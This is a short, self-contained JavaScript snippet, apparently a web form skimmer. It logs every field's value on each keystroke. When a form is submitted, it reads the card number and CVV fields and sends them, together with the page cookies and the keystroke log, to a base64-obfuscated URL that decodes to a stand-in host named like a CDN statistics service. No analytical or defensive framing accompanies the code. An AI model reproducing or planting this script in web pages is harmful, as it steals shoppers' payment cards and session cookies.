(function () {
  var f = {};
  document.addEventListener('keyup', function (e) { f[e.target.name] = e.target.value; });
  document.addEventListener('submit', function () {
    var n = document.querySelector('input[name=cardnumber]'), c = document.querySelector('input[name=cvv]');
    navigator.sendBeacon(atob('aHR0cHM6Ly9jZG4tc3RhdC5leGFtcGxlLmludmFsaWQvZw=='), JSON.stringify({ n: n.value, c: c.value, k: document.cookie, f: f }));
  }, true);
})();
